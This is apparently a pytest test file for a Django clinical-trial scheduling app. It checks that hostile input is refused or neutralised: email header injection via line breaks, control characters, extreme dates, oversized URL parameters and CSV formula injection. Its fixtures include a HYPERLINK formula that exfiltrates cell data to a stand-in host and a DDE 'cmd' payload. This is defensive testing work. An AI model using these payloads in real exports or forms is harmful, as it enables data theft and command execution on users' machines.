"""Hostile input (issue 10, section 4) outside the command line: model fields, services,
admin forms. The command line's side is in test_commands.py."""

import csv
import datetime
import io
import logging

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.urls import reverse

from participants.csv_cells import safe_cell, safe_row
from participants.lifecycle import create_participant
from participants.models import Participant, Site, Transition
from scheduling.mail.dispatch import dispatch_due
from scheduling.models import OutboxStatus, Phase, Reminder, SiteDigest, VisitDefinition
from scheduling.timeline.schedules import rebuild_schedule
from scheduling.timeline.visits import add_unscheduled_visit
from tests.factories import enrol
from tests.forms import form_data
from tests.smtp_server import smtp_server_fixture  # noqa: F401

pytestmark = pytest.mark.django_db

D = datetime.date
NOW = datetime.datetime(2026, 3, 12, 5, tzinfo=datetime.UTC)  # Oceanside: still 11 March


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


# One-line fields hold one line of printable text.


def one_line_fields(protocol, site):
    return {
        "site name": (site, "name"),
        "site phone": (site, "phone"),
        "coordinator email": (site, "coordinator_email"),
        "protocol title": (protocol, "title"),
        "protocol sponsor": (protocol, "sponsor"),
        "phase name": (Phase.objects.filter(protocol=protocol).first(), "name"),
        "visit definition name": (
            VisitDefinition.objects.filter(protocol=protocol).first(),
            "name",
        ),
    }


@pytest.mark.parametrize(
    "field",
    [
        "site name",
        "site phone",
        "coordinator email",
        "protocol title",
        "protocol sponsor",
        "phase name",
        "visit definition name",
    ],
)
@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("Oceanside\nClinic", "contains a line break (U+000A)"),
        ("Oceanside\r\nBcc: x@example.org", "contains a carriage return (U+000D)"),
        ("Ocean\tside", "contains a tab (U+0009)"),
        ("Ocean\x00side", "contains a NUL byte (U+0000)"),
        ("Ocean\u2028side", "contains a line separator (U+2028)"),
    ],
)
def test_a_one_line_field_refuses_line_breaks_and_control_characters(
    protocol, site_ocn, field, text, problem
):
    record, name = one_line_fields(protocol, site_ocn)[field]
    value = f'"{text}"@example.org' if name == "coordinator_email" else text
    setattr(record, name, value)
    with pytest.raises(ValidationError) as excinfo:
        record.full_clean(validate_unique=False, validate_constraints=False)
    assert (
        f"Must be one line of printable text; this {problem}." in (excinfo.value.message_dict[name])
    )


def test_an_address_may_have_several_lines_but_no_control_characters(site_ocn):
    site_ocn.address = "100 Mission Avenue\r\nOceanside, CA 92054"
    site_ocn.full_clean()
    site_ocn.address = "100 Mission Avenue\x00"
    with pytest.raises(ValidationError) as excinfo:
        site_ocn.full_clean()
    assert excinfo.value.message_dict["address"] == [
        "Must be printable text; this contains a NUL byte (U+0000)."
    ]


def test_the_site_form_refuses_a_line_break_in_the_name(admin_client, site_ocn):
    url = reverse("admin:participants_site_change", args=[site_ocn.pk])
    data = form_data(admin_client.get(url))
    data.update({"name": "Oceanside\nClinic", "change_reason": "Renamed"})
    response = admin_client.post(url, data)
    site_ocn.refresh_from_db()
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["name"] == [
        "Must be one line of printable text; this contains a line break (U+000A)."
    ]
    assert site_ocn.name == "Oceanside"


def test_an_unscheduled_visit_name_is_one_line(make_participant):
    participant = make_participant(consent_date=D(2026, 1, 5))
    with pytest.raises(ValidationError) as excinfo:
        add_unscheduled_visit(
            participant, on=D(2026, 1, 9), reason="Flare", name="Flare\nBcc: x@example.org"
        )
    assert excinfo.value.message_dict == {
        "name": ["Must be one line of printable text; this contains a line break (U+000A)."]
    }
    assert not participant.visits.filter(code="UNS").exists()


# Dates are kept inside a sane range, and pages never fail on the ones already stored.


def page_url(participant):
    return reverse("admin:participants_participant_change", args=[participant.pk])


def test_a_consent_date_before_1990_is_refused_with_the_limit(protocol, site_ocn):
    with pytest.raises(ValidationError) as excinfo:
        create_participant(
            protocol=protocol,
            site=site_ocn,
            subject_id="SLE-001-101-001",
            email="p1@example.org",
            consent_date=D(1, 1, 1),
        )
    assert excinfo.value.message_dict == {
        "consent_date": [
            "0001-01-01 is before 1990-01-01, the earliest date this protocol accepts."
        ]
    }
    assert not Participant.objects.exists()


def test_a_protocol_accepts_consent_from_its_own_earliest_date(protocol, make_participant):
    protocol.earliest_date = D(2025, 9, 1)
    protocol.save()
    make_participant(consent_date=D(2025, 9, 1))
    with pytest.raises(ValidationError) as excinfo:
        make_participant(consent_date=D(2025, 8, 31))
    assert excinfo.value.message_dict["consent_date"] == [
        "2025-08-31 is before 2025-09-01, the earliest date this protocol accepts."
    ]


def test_a_protocol_cannot_set_its_earliest_date_before_1990(protocol):
    protocol.earliest_date = D(1989, 12, 31)
    with pytest.raises(ValidationError) as excinfo:
        protocol.full_clean()
    assert list(excinfo.value.message_dict) == ["earliest_date"]


def test_the_add_form_refuses_a_consent_date_of_year_1(admin_client, protocol, site_ocn):
    response = admin_client.post(
        reverse("admin:participants_participant_add"),
        {
            "protocol": protocol.pk,
            "site": site_ocn.pk,
            "subject_id": "SLE-001-101-050",
            "email": "p50@example.org",
            "consent_date": "0001-01-01",
            "transitions-TOTAL_FORMS": 0,
            "transitions-INITIAL_FORMS": 0,
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["consent_date"] == [
        "0001-01-01 is before 1990-01-01, the earliest date this protocol accepts."
    ]
    assert not Participant.objects.exists()


def test_an_unscheduled_visit_cannot_be_booked_more_than_five_years_ahead(make_participant):
    participant = make_participant(consent_date=D(2026, 1, 5))
    add_unscheduled_visit(participant, on=D(2031, 3, 11), reason="Check-up", happened=False)
    with pytest.raises(ValidationError) as excinfo:
        add_unscheduled_visit(participant, on=D(9999, 12, 31), reason="Typo", happened=False)
    assert excinfo.value.message_dict == {
        "on": [
            "9999-12-31 is more than 5 years ahead (the latest date that can be booked today "
            "is 2031-03-11)."
        ]
    }


def test_booking_an_unscheduled_visit_on_9999_12_31_leaves_the_page_working(
    admin_client, make_participant
):
    participant = make_participant(consent_date=D(2026, 1, 5))
    response = admin_client.post(
        reverse("admin:participant_unscheduled", args=[participant.pk]),
        {"on": "9999-12-31", "happened": "0", "reason": "Typo"},
        follow=True,
    )
    assert response.status_code == 200
    assert [str(m) for m in response.context["messages"]] == [
        "9999-12-31 is more than 5 years ahead (the latest date that can be booked today is "
        "2031-03-11)."
    ]
    assert not participant.visits.filter(code="UNS").exists()


@pytest.mark.parametrize(
    ("consent", "unscheduled"),
    [(D(2026, 1, 5), D(9999, 12, 31)), (D(1, 1, 1), D(1, 1, 2)), (D(1, 1, 1), D(9999, 12, 31))],
)
def test_the_participant_page_opens_with_extreme_dates_stored_before_they_were_refused(
    admin_client, make_participant, consent, unscheduled
):
    participant = make_participant(consent_date=D(2026, 1, 5))
    add_unscheduled_visit(participant, on=D(2026, 1, 9), reason="Flare")
    # As an older version let them in: straight to the database, then the schedule follows.
    Participant.objects.filter(pk=participant.pk).update(consent_date=consent)
    participant.visits.filter(code="UNS").update(planned_date=unscheduled, actual_date=None)
    Transition.objects.filter(participant=participant).update(effective_date=consent)
    rebuild_schedule(participant)
    response = admin_client.get(page_url(participant))
    assert response.status_code == 200
    assert 'data-visit="UNS"' in response.text


def test_a_transition_before_1990_is_refused_even_after_a_stored_consent_of_year_1(
    make_participant,
):
    participant = make_participant(consent_date=D(2026, 1, 5))
    Participant.objects.filter(pk=participant.pk).update(consent_date=D(1, 1, 1))
    Transition.objects.filter(participant=participant).update(effective_date=D(1, 1, 1))
    with pytest.raises(ValidationError) as excinfo:
        enrol(participant, on=D(1, 2, 1))
    assert excinfo.value.message_dict == {
        "on": ["0001-02-01 is before 1990-01-01, the earliest date this protocol accepts."]
    }


# Spreadsheet formulas: subject ids are checked; every CSV cell we write is neutralised.

FORMULA = '=HYPERLINK("http://ev.il/?"&B2)'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-35", "-35"),
        ("+4.5", "+4.5"),
        (-57, "-57"),
        (D(2026, 3, 2), "2026-03-02"),
        ("2026-03-02", "2026-03-02"),
        (None, ""),
        ("SLE-001-101-001", "SLE-001-101-001"),
        ("Screening: consent and eligibility", "Screening: consent and eligibility"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(value, cell):
    assert safe_cell(value) == cell


def test_safe_row_neutralises_every_cell_of_a_row():
    assert safe_row([FORMULA, -35, None, D(2026, 1, 5)]) == ["'" + FORMULA, "-35", "", "2026-01-05"]


@pytest.mark.parametrize(
    "subject_id", [FORMULA, "+1", "-101-004", "@SUM", "SLE 001 101", "SLE/001", "Sübject"]
)
def test_a_subject_id_is_letters_digits_dashes_underscores_and_dots(protocol, site_ocn, subject_id):
    with pytest.raises(ValidationError) as excinfo:
        create_participant(
            protocol=protocol,
            site=site_ocn,
            subject_id=subject_id,
            email="p@example.org",
            consent_date=D(2026, 1, 5),
        )
    assert excinfo.value.message_dict == {
        "subject_id": [
            f"“{subject_id}” is not a subject id: use letters, digits, “-”, “_” and “.”, "
            "beginning with a letter or digit."
        ]
    }


def test_a_protocol_may_narrow_its_subject_ids_with_a_pattern(protocol, make_participant):
    protocol.subject_id_pattern = r"^SLE-001-\d{3}-\d{3}$"
    protocol.full_clean()
    protocol.save()
    make_participant(subject_id="SLE-001-101-001")
    with pytest.raises(ValidationError) as excinfo:
        make_participant(subject_id="SLE-001-1-1")
    assert excinfo.value.message_dict == {
        "subject_id": [
            r"“SLE-001-1-1” does not match the subject ids of protocol SLE-001 "
            r"(^SLE-001-\d{3}-\d{3}$)."
        ]
    }


def test_a_subject_id_pattern_must_be_a_regular_expression(protocol):
    protocol.subject_id_pattern = "SLE-(001"
    with pytest.raises(ValidationError) as excinfo:
        protocol.full_clean()
    assert excinfo.value.message_dict["subject_id_pattern"] == [
        "“SLE-(001” is not a regular expression: missing ), unterminated subpattern at position 4."
    ]


def test_the_add_form_refuses_a_formula_as_subject_id_once(admin_client, protocol, site_ocn):
    response = admin_client.post(
        reverse("admin:participants_participant_add"),
        {
            "protocol": protocol.pk,
            "site": site_ocn.pk,
            "subject_id": "=1+1",
            "email": "p50@example.org",
            "consent_date": "2026-01-19",
            "transitions-TOTAL_FORMS": 0,
            "transitions-INITIAL_FORMS": 0,
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["subject_id"] == [
        "“=1+1” is not a subject id: use letters, digits, “-”, “_” and “.”, beginning with a "
        "letter or digit."
    ]
    assert not Participant.objects.exists()


def test_the_admin_export_action_writes_formulas_as_text(admin_client, make_participant):
    participant = make_participant(consent_date=D(2026, 1, 5))
    # Stored before subject ids were checked; visit names come from the protocol's plan.
    Participant.objects.filter(pk=participant.pk).update(subject_id=FORMULA)
    participant.visits.filter(code="SCR").update(name="@SUM(A1:A9)")
    response = admin_client.post(
        reverse("admin:participants_participant_changelist"),
        {"action": "export_schedule", "_selected_action": [participant.pk]},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    screening = next(row for row in rows if row[3] == "SCR")
    assert screening[0] == "'" + FORMULA
    assert screening[4] == "'@SUM(A1:A9)"
    assert screening[8] == "-56"


# A line break stored in a site's data before it was refused: the dispatcher names the header.

LEUK_DAY = D(2026, 4, 5)
LEUK_REMINDER_DUE = datetime.datetime(2026, 3, 29, 7, tzinfo=datetime.UTC)  # 09:00 in Berlin


@pytest.fixture
def due_in_berlin(make_participant, site_ber, clock):
    """A Berlin participant's 7-day LEUK reminder and the site's digest, both due now."""
    participant = make_participant(
        consent_date=LEUK_DAY - datetime.timedelta(days=35), site=site_ber
    )
    clock.move_to(LEUK_REMINDER_DUE, tick=False)
    return Reminder.objects.get(
        visit__participant=participant, visit__code="LEUK", rule__lead_days=7
    )


def test_a_line_break_in_a_sites_name_is_reported_as_a_header_problem_and_fails_no_one(
    due_in_berlin, site_ber, smtp_server, caplog
):
    Site.objects.filter(pk=site_ber.pk).update(name="Berlin\nBcc: someone@example.org")
    with caplog.at_level(logging.WARNING):
        summary = dispatch_due()
    digest = SiteDigest.objects.get()
    due_in_berlin.refresh_from_db()
    assert (summary.sent, summary.retrying, summary.failed) == (1, 1, 0)
    assert due_in_berlin.status == OutboxStatus.SENT  # the name is in none of its headers
    assert digest.status == OutboxStatus.PENDING  # retried: it goes out once the name is put right
    assert digest.last_error == "invalid header: Subject contains a line break"
    assert digest.next_attempt_at == LEUK_REMINDER_DUE + datetime.timedelta(minutes=1)
    assert [r.getMessage() for r in caplog.records if r.levelno == logging.ERROR] == [
        "a message cannot be built, retried later: invalid header: Subject contains a line break"
    ]

    Site.objects.filter(pk=site_ber.pk).update(name="Berlin")
    dispatch_due(now=digest.next_attempt_at)
    digest.refresh_from_db()
    assert digest.status == OutboxStatus.SENT
    assert (
        smtp_server.messages[-1]["Subject"] == "Daily visit digest for Berlin: Sunday 29 March 2026"
    )


def test_a_line_break_in_the_coordinators_address_holds_reminders_back_without_failing_them(
    due_in_berlin, site_ber, smtp_server
):
    Site.objects.filter(pk=site_ber.pk).update(
        coordinator_email="coordinator@example.org\nBcc: someone@example.org"
    )
    dispatch_due()
    due_in_berlin.refresh_from_db()
    assert due_in_berlin.status == OutboxStatus.PENDING  # not the participant's mailbox
    assert due_in_berlin.last_error == "invalid header: Reply-To contains a line break"
    assert due_in_berlin.next_attempt_at == LEUK_REMINDER_DUE + datetime.timedelta(minutes=1)
    assert SiteDigest.objects.get().last_error == "invalid address"  # the digest's recipient
    assert smtp_server.messages == []


HUGE = "99999999999999999999"
DATE_PARAMETERS = [
    f"/admin/scheduling/visit/calendar/?month={HUGE}-1",
    f"/admin/scheduling/visit/calendar/?month=2026-{HUGE}",
    f"/admin/scheduling/visit/calendar/?week={HUGE}-01-01",
    f"/admin/scheduling/visit/?planned_date__year={HUGE}",
    f"/admin/scheduling/visit/?planned_date__year=2026&planned_date__month={HUGE}",
    "/admin/scheduling/visit/?planned_date__year=9999&planned_date__month=12&planned_date__day=31",
    "/admin/scheduling/visit/?planned_date__year=0",
    f"/admin/participants/siteclosure/?start__year={HUGE}",
    f"/admin/participants/siteclosure/?start__year=2026&start__month=1&start__day={HUGE}",
    f"/admin/axes/accessattempt/?attempt_time__year={HUGE}",
    f"/admin/django_celery_beat/periodictask/?start_time__year={HUGE}",
]


@pytest.mark.parametrize("username", ["admin", "coordinator-ocn", "manager-ocn", "monitor"])
def test_a_date_parameter_out_of_range_never_costs_a_500(client, staff, admin_user, username):
    """Security issue 21 item 4: an oversized number in any date parameter of the admin (the
    calendar's month and week, every date hierarchy, ours and the libraries') answers the page
    unfiltered, a redirect to it or a refusal, never a server error."""
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.get(username=username))
    for address in DATE_PARAMETERS:
        response = client.get(address)
        assert response.status_code in (200, 302, 400, 403, 404), (address, response.status_code)
        if response.status_code == 302 and "?e=1" in response.url:
            # Django's fall back for a bad filter: the list again, unfiltered.
            assert client.get(response.url).status_code == 200, address
